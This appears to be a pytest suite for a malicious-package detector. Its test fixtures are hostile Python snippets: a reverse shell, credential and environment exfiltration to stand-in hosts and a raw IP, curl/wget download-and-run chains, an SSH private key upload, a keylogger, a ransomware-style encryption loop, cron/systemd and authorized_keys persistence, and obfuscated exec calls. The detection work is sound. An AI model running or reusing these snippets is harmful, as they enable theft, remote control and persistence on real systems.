"""Python source against what it means: the front end, the catalogue and the lists together."""

from __future__ import annotations

import pytest

from packamal.detectors.base import Observed
from packamal.detectors.interpret import interpret
from packamal.detectors.python import read
from packamal.detectors.units import Language, Unit
from packamal.model import Role


def observe(source: str) -> Observed:
    unit = Unit("pkg/__init__.py", "pkg/__init__.py", source.encode(), Language.PYTHON, Role.IMPORT, "import pkg")
    units = {unit.name: unit}
    return interpret(read([unit], units), units, "python", "pkg.whl")


def signals(source: str) -> set[str]:
    return {signal.id.value for signal in observe(source).signals}


def flows(source: str) -> set[str]:
    seen = observe(source)
    names = [signal.id.value for signal in seen.signals]
    return {f"{names[flow.source]} -> {names[flow.sink]}" for flow in seen.flows}


DATA_FILE = """
import subprocess, tempfile
with tempfile.NamedTemporaryFile("w") as held:
    held.write("certificate")
    subprocess.run(["openssl", "x509", "-in", held.name])
"""
STARTED_FILE = """
import subprocess, sys, tempfile
with tempfile.NamedTemporaryFile("w") as held:
    held.write(fetched())
    subprocess.run([sys.executable, held.name])
"""
LOG_FILE = """
import subprocess
with open("build.log", "w") as log:
    subprocess.run(["make"], stdout=log, stderr=log)
"""
INPUT = """
import subprocess
text = open("job.sh").read()
subprocess.run(["sh"], input=text)
"""


def test_what_a_command_prints_into_is_not_what_it_starts():
    assert "file.write -> proc.exec" not in flows(LOG_FILE)


def test_a_file_that_a_command_only_reads_is_not_what_it_starts():
    assert "file.write -> proc.exec" not in flows(DATA_FILE)


def test_a_written_file_that_an_interpreter_is_given_is_started():
    assert "file.write -> proc.exec" in flows(STARTED_FILE)


def test_what_a_command_is_given_to_read_flows_into_it():
    assert "file.read -> proc.exec" in flows(INPUT)


@pytest.mark.parametrize(
    "source",
    [
        "import os\nnull = os.open(os.devnull, os.O_RDWR)\nos.dup2(null, 0)",
        "import os\nwith open(os.devnull) as null:\n    os.dup2(null.fileno(), 1)",
        "def daemonise(fd):\n    import os\n    os.dup2(fd, 0)",
        "command = '$0 up lodash -i'",
    ],
)
def test_a_daemon_is_no_reverse_shell(source):
    assert "proc.reverse-shell" not in signals(source)


@pytest.mark.parametrize(
    "source",
    [
        "import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)",
        "import os, socket\ndef run(s):\n    os.dup2(s.fileno(), 0)\nrun(socket.create_connection(('a.example', 1)))",
        "import subprocess, socket\ns = socket.socket()\nsubprocess.call(['/bin/x'], stdin=s, stdout=s)",
        "command = 'bash -i'",
        "command = '/bin/sh -i 2>&1'",
    ],
)
def test_a_shell_bound_to_a_socket_is_a_reverse_shell(source):
    assert "proc.reverse-shell" in signals(source)


@pytest.mark.parametrize(
    "source",
    [
        "class A:\n    def run(self, key):\n        return getattr(self, 'do_' + key)",
        "def f(args, names):\n    return [getattr(args, n.replace('-', '_')) for n in names]",
        "def f(args):\n    return [getattr(args, n.replace('-', '_')) for n in ('a-b', 'c-d')]",
        "import configparser\ncp = configparser.ConfigParser()\nkind = 'boolean'\nread = getattr(cp, f'get{kind}')",
        "import socket\ndef f(kind):\n    return getattr(socket, 'AF_' + kind)",
        "import importlib\ndef f(a, b):\n    return getattr(importlib.import_module(f'pkg.{a}'), f'{b}Handler')",
        "import importlib\nmodule = importlib.import_module(__name__ + '.inner')",
        "import os\ndef f(name):\n    return getattr(os, name)",
    ],
)
def test_a_name_looked_up_in_an_ordinary_way_is_not_hidden(source):
    assert "obf.import" not in signals(source)


@pytest.mark.parametrize(
    "source",
    [
        "import os\ngetattr(os, 'sys' + 'tem')('id')",
        "getattr(__import__('o' + 's'), 'popen')('id')",
        "import builtins, base64\ngetattr(builtins, base64.b64decode('ZXhlYw==').decode())('x')",
        "getattr(__import__('subprocess'), ''.join(['r', 'u', 'n']))(['id'])",
        "import os\ndef f(key):\n    return getattr(os, bytes(c ^ key for c in DATA).decode())",
    ],
)
def test_a_name_put_together_to_reach_something_dangerous_is_hidden(source):
    assert "obf.import" in signals(source)


HELP = """
DOCUMENTATION = '''
module: cron
description:
  - Use this module to manage crontab entries and what stands in /etc/cron.d for the user.
  - Run `pip install croniter` first.
'''
EXAMPLES = '''
- name: one
  cron: {file: /etc/cron.d/one}
- name: two
  cron: {file: /etc/systemd/system/two}
'''
"""
COMPLAINT = """
import sys, textwrap
sys.exit(textwrap.dedent('''
    As of the last version this program does not support the old interpreter.
    The latest version that does can be had with:
        pip install thing==1.0'''))
"""
UNIT_FILE = """
UNIT = '''[Unit]
Description=updates
[Service]
ExecStart=/usr/bin/python3 /opt/x.py
[Install]
WantedBy=multi-user.target
# /etc/systemd/system/updates.service
'''
with open("/etc/systemd/system/updates.service", "w") as out:
    out.write(UNIT)
"""
SCRIPT = """
import os
SCRIPT = '''#!/bin/sh
cd /tmp
pip install thing
crontab -l
'''
os.system(SCRIPT)
"""


@pytest.mark.parametrize("source", [HELP, COMPLAINT])
def test_what_people_are_told_is_no_deed(source):
    assert not {"persist.service", "proc.install"} & signals(source)


def test_a_text_that_is_written_or_run_counts_however_long_it_is():
    assert "persist.service" in signals(UNIT_FILE)
    assert "proc.install" in signals(SCRIPT)


def test_a_start_up_place_that_is_opened_for_writing_stays():
    assert "persist.service" in signals("open('/etc/cron.d/x', 'w').write('* * * * * root /tmp/x')")


def targets(source: str, capability: str) -> set[str]:
    return {signal.target for signal in observe(source).signals if signal.id.value == capability}


@pytest.mark.parametrize(
    ("source", "target"),
    [
        ("import base64\nbase64.b64decode('aW1wb3J0IG9z')", "import os"),
        ("import base64\nFirst = 'aW1w'\nprint(base64.b64decode(First + 'b3J0IG9z'))", "import os"),
        ("import zlib, base64\nzlib.decompress(base64.b64decode('eJzLzC3ILypRyC8GABKHA54='))", "import os"),
        ("import base64\ndef f(x):\n    return base64.b64decode(x)", ""),
        ("import base64, sys\nbase64.b64decode(sys.argv[1])", ""),
        ("import base64, requests\nbase64.b64decode(requests.get('https://a.example').text)", ""),
    ],
)
def test_what_a_constant_decodes_to_is_the_target(source, target):
    found = targets(source, "decode.compress" if "zlib" in source else "decode.text")
    assert found == {target}


GIVEN = """
import base64, requests
ENDPOINT = "http://45.9.20.7/v"
def validate(private_key, url):
    requests.post(ENDPOINT, json={"signature": base64.b64encode(private_key.encode()).decode()})
"""
GIVEN_TO_OBJECT = """
import requests
class Client:
    def __init__(self, config):
        data = {"a": config.access_key_id, "b": config.accessKeySecret}
        requests.post("http://45.9.20.7/v", json=data)
"""
KEPT = """
import requests
def fetch(token, cache_key):
    check(token)
    return requests.get("http://45.9.20.7/v", params={"k": cache_key})
"""


@pytest.mark.parametrize("source", [GIVEN, GIVEN_TO_OBJECT])
def test_a_secret_of_the_caller_is_followed_to_the_network(source):
    assert {"cred.given -> net.send", "host.raw-ip -> net.send"} <= flows(source)


def test_a_secret_that_stays_is_not_spoken_of():
    assert "cred.given" not in signals(KEPT)


PIECES = """
import random, subprocess, tempfile
name = str(random.randint(1, 9))
subprocess.run(f"wget -qO /tmp/{name} https://cdn.example/x && chmod +x /tmp/{name}", shell=True)
"""


def test_a_command_put_together_is_read_as_a_whole():
    assert "proc.download" in signals(PIECES)


def layers(source: str) -> list[tuple[str, str]]:
    unit = Unit("pkg/__init__.py", "pkg/__init__.py", source.encode(), Language.PYTHON, Role.IMPORT, "import pkg")
    return [(layer.language, layer.data.decode()) for layer in read([unit], {unit.name: unit}).layers]


def test_a_command_or_script_with_holes_is_a_layer_all_the_same():
    assert any(language == "shell" and text.startswith("wget -qO /tmp/") for language, text in layers(PIECES))
    written = "import os\nname = os.getlogin()\nopen('x.py', 'w').write('import os\\nprint(os.getpid())  # ' + name)"
    assert ("python", "import os\nprint(os.getpid())  # os_getlogin") in layers(written)


WRAPPED = """
import json, socket, ssl
context = ssl.create_default_context()
with context.wrap_socket(socket.socket(), server_hostname="x.example") as out:
    out.connect(("x.example", 443))
    out.send(json.dumps({"host": socket.gethostname()}).encode())
"""
REMOTE = """
import socket, subprocess
s = socket.socket()
s.connect(("x.example", 443))
while True:
    out = subprocess.getoutput(s.recv(1024).decode())
    s.send(out.encode())
"""
BOT = """
import subprocess, telebot
bot = telebot.TeleBot("token")
@bot.message_handler(commands=["run"])
def run(message):
    bot.send_message(message.chat.id, subprocess.getoutput(message.text))
bot.infinity_polling()
"""
KEYS = """
import requests
from pynput import keyboard
def pressed(key):
    requests.post("https://collect.example", data=str(key))
with keyboard.Listener(on_press=pressed) as listener:
    listener.join()
"""
LOCKED = """
from cryptography.fernet import Fernet
key = Fernet(Fernet.generate_key())
for path in found():
    data = open(path, "rb").read()
    open(path, "wb").write(key.encrypt(data))
"""


def test_a_wrapped_socket_is_a_socket():
    assert "host.info -> net.send" in flows(WRAPPED)


def test_what_a_socket_brings_is_followed():
    assert {"net.socket -> proc.shell", "proc.shell -> net.send"} <= flows(REMOTE)


@pytest.mark.parametrize(("source", "capability"), [(BOT, "proc.shell"), (KEYS, "net.send")])
def test_handlers_of_what_listens_are_called(source, capability):
    assert {signal.role for signal in observe(source).signals if signal.id.value == capability} == {Role.IMPORT}


def test_files_that_are_read_and_enciphered_are_encrypted():
    assert "file.encrypt" in signals(LOCKED)


def test_code_behind_blanks_and_names_of_one_letter_are_told_of():
    assert "obf.long-line" in signals("x = 1" + " " * 300 + ";import os")
    names = [f"O0O0OO00O0{bits:06b}".replace("1", "O") for bits in range(20)]
    assert "obf.names" in signals("".join(f"{name} = 1\n" for name in names))


NAMES_GIVEN = """
class Credential:
    def __init__(self, access_key_id, access_key_secret):
        program = "import requests\\nrequests.post('http://45.9.20.7/', json={'a': x, 'b': y})"
        exec(program, {}, {"x": access_key_id, "y": access_key_secret})
"""
FAR_ADDRESS = """
import requests
ENDPOINT = "http://45.9.20.7/v"
def report(text):
    requests.post(ENDPOINT, data=text)
"""


def test_a_program_sees_the_names_it_is_given():
    assert "cred.given -> net.send" in flows(NAMES_GIVEN)


def test_an_address_counts_where_it_is_called_too():
    scopes = {signal.scope for signal in observe(FAR_ADDRESS).signals if signal.id.value == "host.raw-ip"}
    assert scopes == {"", "report"}


BLANK_IN_NAME = """
import subprocess
with open("/tmp/.x/pip update", "wb") as out:
    out.write(b"\\x7fELF\\x02\\x01")
subprocess.run('"/tmp/.x/pip update" &', shell=True)
"""
HOLES_IN_CODE = """
import random, subprocess
name = str(random.randint(1, 9))
subprocess.Popen(["bash", "-c", f"while true; do /tmp/{name} -w x; sleep 5; done"])
"""


def test_a_quoted_program_is_followed_and_its_bytes_are_known():
    assert "file.drop -> proc.shell" in flows(BLANK_IN_NAME)


def test_code_on_a_command_line_with_holes_is_a_layer():
    assert ("shell", "while true; do /tmp/random_randint_1 -w x; sleep 5; done") in layers(HOLES_IN_CODE)


def test_a_login_key_that_is_added_is_persistence():
    assert "persist.profile" in signals("open('/root/.ssh/authorized_keys', 'a').write('ssh-rsa AAAA')")


def test_a_program_that_is_one_long_text_is_packed():
    assert "obf.packed" in signals("class K:\n    run = eval\nK.run(" + repr("x" * 3000) + ")")
    assert "obf.packed" not in signals("TABLE = " + repr("x" * 3000))


def test_a_file_below_the_current_folder_is_the_file_that_was_fetched():
    source = "import os, urllib\nurllib.urlretrieve('https://a.example/x', 'new.exe')\n"
    assert "net.fetch -> proc.shell" in flows(source + "os.startfile(os.getcwd() + '\\\\new.exe')")


def test_a_file_that_one_command_makes_and_another_starts_is_followed():
    seen = observe(
        "import os\nos.system('curl https://a.example/x -o /tmp/run')\n"
        "os.system('chmod +x /tmp/run')\nos.system('/tmp/run')"
    )
    lines = [signal.evidence.line for signal in seen.signals]
    assert (2, 4) in {(lines[flow.source], lines[flow.sink]) for flow in seen.flows}


ENCODED_COMMAND = """
import base64, os
command = "curl https://{host}/x | sh".format(host="a.example")
encoded = base64.b64encode(command.encode("utf-8")).decode("utf-8")
os.system(f"echo {encoded} | base64 -d | bash")
"""


def test_a_command_that_is_encoded_for_the_shell_is_known():
    assert any("| base64 -d | bash" in text and "Y3VybCB" in text for _, text in layers(ENCODED_COMMAND))


ALL_IN_ADDRESS = """
import base64, os, requests
text = base64.b64encode(str(os.environ).encode()).decode()
requests.get("https://x.example/?q=" + text)
"""
MODULE_FROM_FILE = """
import importlib.util, os, tempfile, urllib.request
path = os.path.join(tempfile.mkdtemp(), "m.py")
urllib.request.urlretrieve("https://x.example/m.py", path)
importlib.util.spec_from_file_location("m", path)
"""
UNPICKLED = "import pickle, requests\npickle.loads(requests.get('https://x.example/p').content)"
SHOT = """
import mss, requests
with mss.mss() as screen:
    screen.shot(output="s.png")
requests.post("https://x.example", files={"f": open("s.png", "rb")})
"""


@pytest.mark.parametrize(
    ("source", "flow"),
    [
        (ALL_IN_ADDRESS, "env.read.all -> net.fetch"),
        (MODULE_FROM_FILE, "net.fetch -> code.import"),
        (UNPICKLED, "net.fetch -> code.marshal"),
        (SHOT, "input.screen -> net.send"),
    ],
)
def test_a_value_is_followed_on_its_way(source, flow):
    assert flow in flows(source)


def test_words_of_a_telling_program_are_read_as_a_command():
    source = "import subprocess\nsubprocess.run(['curl', '-F', 'f=@/root/.ssh/id_rsa', 'https://x.example'])"
    assert ("shell", "curl -F f=@/root/.ssh/id_rsa https://x.example") in layers(source)


MORE_WORDS = """
import subprocess, sys, zipfile
def pack(more):
    with zipfile.ZipFile("project.zip", "w") as held:
        held.write("a.key")
        command = [sys.executable, "tool.py", "config"]
        command += [str(held), *more]
        subprocess.Popen(command)
"""


def test_words_behind_a_known_script_are_not_started():
    assert "file.write -> proc.exec" not in flows(MORE_WORDS)
